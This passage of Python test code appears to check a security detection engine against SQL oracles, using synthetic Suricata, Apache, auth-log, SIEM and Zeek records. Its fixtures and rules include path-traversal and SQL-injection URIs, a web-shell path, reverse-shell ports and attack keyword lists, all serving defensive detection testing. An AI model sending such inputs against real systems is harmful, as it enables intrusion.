    return found(D.hash_reputation(telemetry(spark, sf_dir, "pslist", _hashes), ioc), "host")


QUERIES["q_detect_hashes"] = q_detect_hashes
ORACLES["q_detect_hashes"] = f"""with {telemetry_sql(_hashes)}, ioc as (select distinct md5('m' || user_id % 50) as hash, case when (user_id % 50) % 2 = 0 then 'note ' || user_id % 50 end as note from events where (user_id % 50) % 7 = 0)
select host, min(row_index) as row_index, 'hash_reputation' as category, 'critical' as severity, 'Known-bad file hash: ' || coalesce(note, hash) as title, 95::int as score, 'T1204.002' as mitre from t join ioc on lower(md5) = hash group by host, hash, note"""

# Text logs

_score = "case severity when 'critical' then 70 when 'high' then 60 when 'medium' then 45 when 'low' then 25 end"
_signature = pick(["ET SCAN x", "ET MALWARE y", "GPL z", "ET INFO q", "ET POLICY p"])
_suricata = {"raw": (E.concat(E.lit('{"event_type":"'), pick(["alert", "dns"], 5)[0], E.lit('","src_ip":"1.1.1.1","alert":{"signature":"'), _signature[0], E.lit('","severity":2}}')), "'{\"event_type\":\"' || " + pick(["alert", "dns"], 5)[1] + " || '\",\"alert\":{\"signature\":\"' || " + _signature[1] + " || '\",\"severity\":2}}'")}
_prefix = lambda i, default: "case " + " ".join(f"when starts_with(sig, {quoted(p)}) then {quoted(v[i])}" for p, v in ALERT_PREFIXES.items()) + f" else '{default}' end"
family_query("q_detect_suricata", "suricata_eve", _suricata, ["x as (select *, json_extract_string(raw, '$.alert.signature') as sig from t where json_extract_string(raw, '$.event_type') = 'alert')", f"y as (select *, {_prefix(0, 'medium')} as severity from x)"], [select("'network_anomaly'", "severity", "'Suricata: ' || sig", _score, _prefix(1, "T1071"), "from y")])
_uri, _status = pick(["/ok", "/../etc/passwd", "/wp-admin/x", "/a?q=union+select", "/index.html"]), pick(["200", "404", "500", "301"], 5)
_access = {"raw": (E.concat(E.lit("1.1.1.1 - - [10/Oct/2000:13:55:36 -0700] \"GET "), _uri[0], E.lit(" HTTP/1.1\" "), _status[0], E.lit(" 12")), "'1.1.1.1 - - [10/Oct/2000:13:55:36 -0700] \"GET ' || " + _uri[1] + " || ' HTTP/1.1\" ' || " + _status[1] + " || ' 12'")}
_odd_uri = "regexp_matches(path, " + quoted("(?i)" + SUSPICIOUS_URI) + ")"
family_query("q_detect_access", "apache_access", _access, ["x as (select *, regexp_extract(raw, '\"GET (\\S+) ', 1) as path, regexp_extract(raw, '\" (\\d{3}) ', 1) as status from t)", f"y as (select *, case when {_odd_uri} or status = '500' then 'high' else 'medium' end as severity from x where {_odd_uri} or status[1] in ('4', '5'))"], [select("'network_anomaly'", "severity", "'HTTP ' || status || ' GET ' || path[1:80]", _score, "'T1190'", "from y")])
_lines = ["Failed password for root from 1.1.1.1 port 22", "Accepted publickey for bob from 2.2.2.2", "Invalid user x from 3.3.3.3", "sudo:  bob : TTY=1 ; COMMAND=/bin/ls", "useradd eve", "crontab -e", "kernel BUG at x", "ufw allow 22", "modprobe x", "chmod 0777 /etc", "nothing here", "usermod -a x"]
_syslog = {"raw": pick(_lines)}
_system = ", ".join(f"({i}, {quoted('(?i)' + p.replace('passwd (?!:)', 'passwd [^:]'))}, '{s}', '{m}', {quoted(label)})" for i, (p, s, m, label) in enumerate(SYSTEM_LINES))
family_query("q_detect_syslog", "authlog", _syslog, [f"rules(n, pattern, severity, mitre, label) as (values {_system})", "h as (select t.*, n, severity, mitre, label from t join rules on regexp_matches(raw, pattern))", first("h1", "h")], [select("case when contains(lower(label), 'sudo') then 'process_anomaly' else 'credential_access' end", "severity", "label", _score, "mitre", "from h1")])
_export = {"message": pick(["Login failed", "ok", "malware found", "user privilege change", "fine"]), "severity": pick(["warning", "", "critical", "info"], 5)}
_words = {"critical": "critical|emerg|alert|crit", "high": "error|err|fail|denied|refused|attack|exploit|malware|trojan|rootkit|injection|shell|exec", "medium": "warn|warning|notice|suspicious|invalid|blocked|drop|reject"}
_said = "case " + " ".join(f"when regexp_matches(lower(coalesce(nullif(severity, ''), message)), {quoted(w)}) then '{s}'" for s, w in _words.items()) + " else 'low' end"
family_query("q_detect_export", "siem_export", _export, [f"x as (select *, {_said} as level from t where regexp_matches(message || ' ' || severity, {quoted('(?i)' + EXPORT_WORDS)}))"], [select("'sigma_detection'", "level", "message", _score.replace("case severity", "case level"), "''", "from x")])


def _zeek_query(kind: str, head: list[str], values: dict[str, tuple[Later, str]], where: str, select_sql: str) -> None:
    name = f"q_detect_zeek_{kind}"
    line = E.concat_ws("\t", *[v[0] for v in values.values()])

    def run(spark: SparkSession, sf_dir: str) -> DataFrame:
        rows = telemetry(spark, sf_dir, f"zeek_{kind}", {"raw": (line, "")})
        top = rows.orderBy("row_index").limit(1).withColumns({"row_index": F.lit(-1).cast("long"), "row": F.create_map(F.lit("raw"), F.lit("#fields\t" + "\t".join(head)))})
        return found(text_logs(top.unionByName(rows)))

    run.__name__ = name
    QUERIES[name] = run
    ORACLES[name] = f"with {telemetry_sql(values)}, x as (select * from t where {where}) {select_sql}"


_zeek_query("conn", ["ts", "id.orig_h", "id.resp_h", "id.resp_p", "proto", "duration", "orig_bytes", "resp_bytes"], {"ts": text("event_id"), "orig_h": pick(["1.1.1.1", "1.1.1.2"]), "resp_h": pick(["2.2.2.2", "3.3.3.3"], 2), "port": pick(["443", "4444", "8888", "80"]), "proto": pick(["tcp", "udp"], 4), "duration": pick(["1", "4000"], 3), "sent": pick(["5", "60000000", "2000000", "-"], 2), "back": pick(["9", "70000000"], 11)},
            "coalesce(try_cast(sent as double), 0) > 50000000 or coalesce(try_cast(back as double), 0) > 50000000 or (proto = 'tcp' and port in ('4444', '1337', '31337', '9001', '8888')) or (duration::double > 3600 and coalesce(try_cast(sent as double), 0) > 1000000)",
            select("'network_anomaly'", "case when port in ('4444', '1337', '31337') then 'high' else 'medium' end", "'Zeek: suspicious connection ' || orig_h || '>' || resp_h || ':' || port", "case when port in ('4444', '1337', '31337') then 60 else 45 end", "case when coalesce(try_cast(sent as double), 0) > 50000000 then 'T1041' else 'T1071' end", "from x"))
_zeek_query("dns", ["ts", "id.orig_h", "query", "qtype_name"], {"ts": text("event_id"), "orig_h": pick(["1.1.1.1"]), "query": pick(["a.com", "b" * 51 + ".net", "a.b.c.d.e.f.g", "x.org"]), "qtype": pick(["A", "TXT", "ANY"], 4)}, "length(query) > 50 or length(query) - length(replace(query, '.', '')) > 5 or qtype in ('TXT', 'NULL', 'ANY')",
            select("'network_anomaly'", "'medium'", "'Zeek DNS: suspicious query ' || query[1:60]", "45", "case when length(query) > 50 or length(query) - length(replace(query, '.', '')) > 5 then 'T1568' else 'T1071.004' end", "from x"))
_zeek_query("http", ["ts", "id.orig_h", "method", "host", "uri"], {"ts": text("event_id"), "orig_h": pick(["1.1.1.1"]), "method": pick(["GET", "PUT", "DELETE"]), "site": pick(["h", "-", "w"], 3), "uri": pick(["/ok", "/a/../b", "/shell.php"], 9)}, "regexp_matches(uri, " + quoted("(?i)" + SUSPICIOUS_URI) + ") or (method in ('PUT', 'DELETE') and site in ('', '-'))",
            select("'network_anomaly'", "'high'", "'Zeek HTTP: suspicious ' || method || ' ' || uri[1:60]", "60", "'T1190'", "from x"))

# A whole collection through the engine, some artifacts under names that tell nothing

_COLLECTED = (("tbl_1", _process, "q_detect_process"), ("netstat", _network, "q_detect_network"), ("tbl_2", _registry, "q_detect_registry"), ("tbl_3", _lnk, "q_detect_links"), ("mplog_events", _av, "q_detect_avlog"), ("tbl_4", _content, "q_detect_content"), ("siem_export", _export, "q_detect_export"))


def q_engine_run(spark: SparkSession, sf_dir: str) -> DataFrame:
    rows = [telemetry(spark, sf_dir, artifact, fields) for artifact, fields, _ in _COLLECTED]
    return D.Engine().run(reduce(DataFrame.unionByName, rows)).select("artifact", *FOUND)


QUERIES["q_engine_run"] = q_engine_run
ORACLES["q_engine_run"] = " union all ".join(f"select '{artifact}' as artifact, {', '.join(FOUND)} from ({ORACLES[name]})" for artifact, _, name in _COLLECTED)
